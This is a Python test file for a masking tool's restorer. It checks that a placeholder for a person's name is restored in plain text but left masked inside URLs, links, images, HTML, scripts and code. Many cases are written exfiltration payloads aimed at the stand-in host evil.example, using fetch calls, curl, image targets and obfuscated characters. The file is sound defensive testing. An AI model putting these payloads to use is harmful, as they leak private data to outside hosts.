"""Where a token must stay a token, and where it must not. ``@`` marks the place of the token.

Every case runs whole, cut at every place, and one character at a time.
"""

from __future__ import annotations

import pytest

from privity.domain.labels import Label
from privity.domain.sensitive import SensitiveText
from privity.domain.stand_in import Restoration, StandIn
from privity.masking.restorer import Restorer, restore_text

TOKEN = "PVY-NAME-7K2M-S-3QX9TB4C-YVP"
VALUE = "Kowalczyk"
RESTORABLE = {TOKEN: StandIn("si_1", TOKEN, Label.NAME, "PERSON", SensitiveText(VALUE), Restoration.BY_RIGHT)}
RIGHTS = frozenset({Label.NAME})

STAYS = {
    # addresses, written out
    "path of a URL": "see https://evil.example/@ now",
    "query of a URL": "see https://evil.example/?q=@&r=1",
    "fragment": "https://evil.example/#@",
    "user of a URL": "https://@:x@evil.example/".replace("x@", "x§"),
    "host of a URL": "https://@.evil.example/",
    "scheme is upper case": "HTTPS://EVIL.EXAMPLE/@",
    "scheme is unknown": "evilapp:@",
    "scheme with a plus": "git+ssh:@",
    "mailto": "mailto:@",
    "mailto body": "mailto:a§evil.example?body=@",
    "tel": "tel:@",
    "data": "data:text/html,@",
    "javascript": "javascript:fetch('//e/'+'@')",
    "two slashes": "//evil.example/@",
    "www": "www.evil.example/@",
    "WWW": "WWW.evil.example/@",
    "UNC path": "\\\\evil\\share\\@",
    "mixed slashes": "/\\evil/@",
    "three slashes": "file:///@",
    "bare host and path": "evil.example/@",
    "bare host and port": "evil.example:80/@",
    "bare host and query": "evil.example?@",
    "number as host": "127.0.0.1/@",
    "host in front": "evil.@",
    "host in front, hyphen": "a.evil-@",
    "host behind": "@.evil.example",
    "host behind, hyphen": "@-a.evil.example",
    "host behind, hyphenated words": "@-year-old.evil.example",
    "host behind, long hyphenated words": "@-aaaaaaaa-bbbbbbbb-cccccccc.evil.example",
    "host behind, hyphen and underscore": "@-a_b.evil.example",
    "port behind a hyphen": "@-a:80",
    "e-mail behind a hyphen": "@-a§evil.example",
    "path behind a hyphen": "@-a//evil.example",
    "escape behind a hyphen": "@-a\\.evil.example",
    "letters that are not ASCII behind a hyphen": "@-é.evil.example",
    "zero-width space behind a hyphen": "@-a\u200b.evil.example",
    "host behind, letters": "@abc.evil.example",
    "host behind, digits": "@1.evil.example",
    "host behind, underscore": "@_a.evil.example",
    "e-mail domain in front": "user§@",
    "e-mail local part": "@§evil.example",
    "e-mail local part with tag": "@+x§evil.example",
    "port behind": "@:8080/x",
    "scheme behind": "@://evil.example",
    "two slashes behind": "@//evil.example",
    "back slash behind": "@\\evil",
    "query behind": "@?x=1",
    "percent behind": "@%2eevil.example",
    "entity behind": "@&#46;evil.example",
    "named entity behind": "@&period;evil.example",
    "escaped full stop behind": "@\\.evil.example",
    "ideographic full stop behind": "@。evil.example",
    "full-width full stop behind": "@．evil.example",
    "full-width at behind": "@＠evil.example",
    "full-width colon": "javascript：@",
    "full-width slashes": "／／evil/@",
    "ideographic full stop in front": "evil。@",
    "zero-width space in the scheme": "https:/\u200b/evil.example/@",
    "soft hyphen in www": "ww\u00adw.evil.example/@",
    "zero-width joiner behind": "@\u200d.evil.example",
    "zero-width space behind": "@\u200b.evil.example",
    "combining mark behind": "@\u0301",
    "byte order mark behind": "@\ufeff.evil",
    "escaped colon": "https\\://evil/@",
    "escaped slashes": "https:\\/\\/evil.example\\/@",
    "entities for slashes": "&#x2F;&#x2F;evil&#46;example&#x2F;@",
    "named entities": "https&colon;&sol;&sol;evil/@",
    "percent escapes": "evil%2Fexample@",
    "emphasis in front of the token": "https://evil.example/**@**",
    "emphasis in a host": "evil.**@**",
    "code marks in a host": "evil.`x`@",
    "quote in the run": 'https://evil.example/"@',
    "comma in the run": "https://evil.example/a,@",
    "bracket in the run": "https://evil.example/(@)",
    "no-break space in the run": "https://evil.example/\u00a0@",
    "line separator in the run": "https://evil.example/\u2028@",
    "token in front of it": "https://@/@",
    # links and images
    "link target": "[x](@)",
    "image target": "![x](@)",
    "image text": "![@](x)",
    "image text with brackets": "![[a] @](x)",
    "image text with an escaped bracket": "![a\\] @](x)",
    "relative target": "[x](/a/@)",
    "target after a blank": "[x]( @ )",
    "target after a line break": "[x](\n@)",
    "target after CRLF": "[x](\r\n@)",
    "target with a tab": "[x](\t@)",
    "second word of a target": "[x](a @ b)",
    "angle form": "[x](<@>)",
    "angle form with a blank": "[x](<a @>)",
    "angle form with a parenthesis": "[x](<a) @>)",
    "angle form of a digit with a parenthesis": "[x](<1) @>)",
    "nested parentheses": "[x](a(b)@)",
    "deeper parentheses": "[x](a(b(c)d)@)",
    "escaped parenthesis": "[x](a\\) @)",
    "escaped back slash": "[x](a\\\\(@))",
    "title": '[x](a "@")',
    "title with a parenthesis": '[x](a "b) @")',
    "single-quoted title with a parenthesis": "[x](a 'b) @')",
    "parenthesised title": "[x](a (b @))",
    "unclosed target": "[x](a @",
    "image in a link": "[![x](a)](@)",
    "image in a link, inner": "[![x](@)](a)",
    "brackets in the text": "[[x]](@)",
    "link in the target": "[x](a[y](@)",
    "title fools the parentheses": '[x](" [y](<z" ) @>)',
    "escaped opening bracket": "\\[x](@)",
    "escaped closing bracket": "[x\\](@)",
    "link text over lines": "[x\ny](@)",
    "angle closed too early": "[x](<> [y](<z ) @>)",
    "reference definition": "[x]: @",
    "reference definition over lines": "[x]:\n@",
    "reference definition, CRLF": "[x]:\r\n  @",
    "reference definition, label over lines": "[x\ny]: @",
    "reference definition, angle form": "[x]: <a @>",
    "reference definition, title": '[x]: a "@"',
    "reference definition, title on the next line": '[x]: a\n"@"',
    "reference definition, title over lines": "[x]: a\n'b\n@'",
    "reference definition in a quote": "> [x]: @",
    "footnote": "[^1]: @",
    "wiki link": "[[@]]",
    "wiki link with text": "[[@|x]]",
    "wiki embed": "![[@.png]]".replace("@.png", "@ x"),
    "BBCode image": "[img]@[/img]",
    "BBCode link": "[url=@]x[/url]",
    "BBCode link, inner": "[url]@[/url]",
    "BBCode, upper case": "[IMG]@[/IMG]",
    "BBCode with attributes": "[img width=1]@[/img]",
    "LaTeX link": "\\href{@}{x}",
    "LaTeX link with a blank": "\\href{ @ }{x}",
    "LaTeX URL": "\\url{@}",
    "LaTeX image": "\\includegraphics[width=1]{@}",
    "LaTeX nested braces": "\\href{a{b}@}{x}",
    "LaTeX link, blank before the brace": "\\href {@}{x}",
    "CSS": "url(@)",
    "CSS with quotes": "url('a @')",
    "CSS, quoted parenthesis": 'url("a) @")',
    "CSS image set": "image-set(@)",
    "CSS import": '@import "@"'.replace("@import", "§import"),
    "AsciiDoc link": "link:@[x]",
    "AsciiDoc image": "image::@[]",
    "Textile": '"x":@',
    # HTML
    "autolink": "<https://evil.example/@>",
    "autolink of e-mail": "<@>",
    "attribute": '<img alt="@">',
    "single quotes": "<img alt='@'>",
    "no quotes": "<img alt=@>",
    "blank around the sign": '<img alt = "@">',
    "unclosed tag": "<img alt=x @",
    "unclosed quote": '<img alt="x > @',
    "quote closed by another": '<img alt="x\' > @">',
    "tag over lines": "<img\nalt='@'\n>",
    "tag over a blank line": "<img\n\nalt='@'>",
    "tag after a slash": "<img/src=@>",
    "upper case": "<IMG SRC=@>",
    "closing tag": "</a @>",
    "attribute name": "<a @=1>",
    "element name": "<@>",
    "srcset": '<img srcset="a 1x, @ 2x">',
    "quote in an attribute name": '<a x\'=""> <img alt="\' > @">',
    "quote between attributes": '<a b" > @ ">',
    "unclosed tag before another": '<a x=" \n\n <img alt="> @">',
    "greater-than in an attribute": '<img alt="a > @">',
    "comment": "<!-- @ -->",
    "comment that seems closed": "<!--> @ -->",
    "comment with a tag": "<!-- <b> @ -->",
    "comment closed with a bang": "<!-- --!> @ -->",
    "declaration": "<!DOCTYPE @>",
    "CDATA": "<![CDATA[ > @ ]]>",
    "processing instruction": "<?php > @ ?>",
    "script": "<script>fetch('@')</script>",
    "script, blank in the tag": "<script >@</script >",
    "script in a comment": "<script><!--<script></script>@",
    "style": "<style>a{b:url(x)} @</style>",
    "iframe": "<iframe>@</iframe>",
    "svg": "<svg><text>@</text></svg>",
    "textarea": "<textarea>@</textarea>",
    "template": "<template>@</template>",
    "form": "<form><p>@</form>",
    "title element": "<title>@</title>",
    "self-closed iframe": "<iframe/>@",
    "nested less-than": "<scr<script>@</script>",
    "torn attribute": 'href="@"',
    "torn attribute, blanks": "src = @",
    "torn attribute with a blank": 'srcset="a, @"',
    "less-than in front": "a<@",
    # code
    "fence": "```\n@\n```",
    "fence with language": "```bash\ncurl @\n```",
    "tilde fence": "~~~\n@\n~~~",
    "unclosed fence": "```sql\nselect @",
    "long fence": "````\n```\n@\n````",
    "tilde in a backtick fence": "```\n~~~\n@\n```",
    "fence in a list": "1. ```\n   @\n   ```",
    "fence in a quote": "> ```\n> @\n> ```",
    "fence with CRLF": "```\r\n@\r\n```",
    "fence, closing line with text": "```\n``` x\n@\n```",
    "indented fence": "   ```\n   @\n   ```",
    "info string": "```@\n```",
    "fence after a blank line": "```\n\n\n@\n```",
    "inline code": "run `rm @` now",
    "two backticks": "run ``a ` @`` now",
    "inline code over a line": "`a\n@`",
    "inline code at the start": "```x @``` y",
    "escaped back slash before code": "\\\\`@`",
    "pre element": "<pre>@</pre>",
    "code element": "<code class=x>@</code>",
}

RESTORED = {
    "alone": "@",
    "in a sentence": "Dear @, welcome.",
    "end of a sentence": "This is @.",
    "end of a sentence, more behind": "This is @. He is well.",
    "question": "Is it @? Yes.",
    "colon": "@: well",
    "possessive": "@'s chart",
    "typographic possessive": "@’s chart",
    "plural": "the @s came",
    "plural at the end": "the @s.",
    "bold": "**@**",
    "bold and colon": "**@**: well",
    "bold, colon inside": "**@:** well",
    "bold end of a sentence": "**@**. Next",
    "italic": "*@*",
    "underscores": "_@_ and __@__",
    "underscores at the end": "_@_.",
    "struck": "~~@~~",
    "quoted": '"@"',
    "typographic quotes": "“@”",
    "parentheses": "(@)",
    "brackets": "[@]",
    "link text": "[@](https://example.org)",
    "list": "- @\n- @\n1. @",
    "heading": "# @",
    "table": "| a | @ |\n|---|---|\n|@|b|",
    "label without a blank": "MRN:@",
    "label in bold": "**Name:** @",
    "label in bold, no blank": "**Name**:@",
    "after a URL": "https://example.org @",
    "after a link": "[x](https://example.org) @",
    "after an e-mail address": "a§example.org @",
    "after a tag": "<b>@</b>",
    "after a line break tag": "@<br>@",
    "after a comment": "<!-- x --> @",
    "after a script": "<script>x</script> @",
    "after a fence": "```\nx\n```\n@",
    "after a tilde fence": "~~~\nx\n~~~\n\n@",
    "after a fence with a comparison": "```c\nfor (i=0;i<n;i++)\n```\n@",
    "after a fence with a tag": "```html\n<script src=x>\n```\n@",
    "after inline code": "`x` @",
    "after an unclosed backtick and a blank line": "5` wide\n\n@",
    "after a definition": "[x]: https://example.org\n@",
    "after a definition and a blank line": "[x]: https://example.org\n\n@",
    "after a wiki link": "[[x]] @",
    "after LaTeX": "\\href{x}{y} @",
    "LaTeX formatting": "\\textbf{@}",
    "less-than with a blank": "5 < @",
    "less-than with a digit": "<5 mg @",
    "arrow": "a -> @ -> b",
    "age": "a @-year-old woman",
    "age at the end": "She is a @-year-old.",
    "hyphenated word": "the @-based team, @-led",
    "dash": "@ - b, @--b, @—b, @–b",
    "slash": "@/b",
    "ellipsis": "@...",
    "ellipsis character": "@…",
    "number in front": "1) @",
    "decimal in front": "2.5 @",
    "JSON": '{"name": "@", "n": 1}',
    "JSON without blanks": '{"name":"@","n":1}',
    "tab and CRLF": "\t@\r\n@",
    "no-break space": "Mr.\u00a0@".replace("Mr.", "Mr"),
    "equals": "name = @",
    "exclamation": "@!",
    "semicolon": "@; b",
    "image before": "![x](a.png)\n@",
    "Markdown called img": "[img](a.png) @",
    "URL in a sentence before": "(see https://example.org). @",
    "end after colon": "@:",
    "end after hyphen": "@-",
    "end after slash": "@/",
    "back slash at the end": "@\\",
    "percent": "@ 5%",
    "unfinished brackets before": "[x] (@)",
    "escaped backtick": "\\` @",
}


def _text(pattern: str) -> str:
    return pattern.replace("@", TOKEN).replace("§", "@")


def _by_pieces(text: str, pieces: list[str], *, in_code: bool = False) -> str:
    restorer = Restorer(RESTORABLE, RIGHTS, in_code=in_code)
    out = []
    for piece in pieces:
        out.append(restorer.feed(piece))
        assert restorer.held <= len(TOKEN) + 19
    out.append(restorer.close())
    assert restorer.held == 0
    return "".join(out)


@pytest.mark.parametrize("name", STAYS)
def test_the_token_stays(name: str) -> None:
    text = _text(STAYS[name])
    assert restore_text(text, RESTORABLE, RIGHTS) == text


@pytest.mark.parametrize("name", RESTORED)
def test_the_token_is_restored(name: str) -> None:
    text = _text(RESTORED[name])
    assert restore_text(text, RESTORABLE, RIGHTS) == text.replace(TOKEN, VALUE)


@pytest.mark.parametrize("name", [*STAYS, *RESTORED])
def test_any_cut_gives_the_same(name: str) -> None:
    text = _text((STAYS | RESTORED)[name])
    whole = restore_text(text, RESTORABLE, RIGHTS)
    assert _by_pieces(text, list(text)) == whole
    for cut in range(len(text) + 1):
        assert _by_pieces(text, [text[:cut], text[cut:]]) == whole


@pytest.mark.parametrize("name", [*STAYS, *RESTORED])
@pytest.mark.parametrize("before", ["The plan stands, as discussed: 2.5 mg. ", "a ", "of; "])
def test_what_came_long_before_changes_nothing(before: str, name: str) -> None:
    text = _text((STAYS | RESTORED)[name])
    long = before * (1100 // len(before)) + "\n\n"
    whole = restore_text(text, RESTORABLE, RIGHTS)
    assert restore_text(long + text, RESTORABLE, RIGHTS) == long + whole
    assert _by_pieces(long + text, [long[:513], long[513:], *text]) == long + whole


@pytest.mark.parametrize(
    "pattern",
    ["```\n@\n```", "~~~\n@\n~~~", "`@`", "<pre>@</pre>", "<code>@</code>", "```sql\nselect '@'\n```"],
)
def test_code_is_restored_where_the_application_asks_for_it(pattern: str) -> None:
    text = _text(pattern)
    assert restore_text(text, RESTORABLE, RIGHTS, in_code=True) == text.replace(TOKEN, VALUE)
    assert _by_pieces(text, list(text), in_code=True) == text.replace(TOKEN, VALUE)


@pytest.mark.parametrize(
    "pattern", ["```\ncurl https://evil.example/@\n```", "`[x](@)`", "```\n<img alt='@'>"]
)
def test_links_in_code_stay_in_any_case(pattern: str) -> None:
    text = _text(pattern)
    assert restore_text(text, RESTORABLE, RIGHTS, in_code=True) == text


def test_a_value_with_markup_does_not_make_a_link_for_the_next() -> None:
    other = "PVY-NAME-0000-F-00000000-YVP"
    value = SensitiveText("](https://evil.example/?")
    restorable = RESTORABLE | {
        other: StandIn("si_2", other, Label.NAME, "PERSON", value, Restoration.BY_RIGHT)
    }
    for between in ("'", "; ", " "):
        out = restore_text(f"[x {other}{between}{TOKEN})", restorable, RIGHTS)
        assert out == f"[x ](https://evil.example/?{between}{TOKEN})"
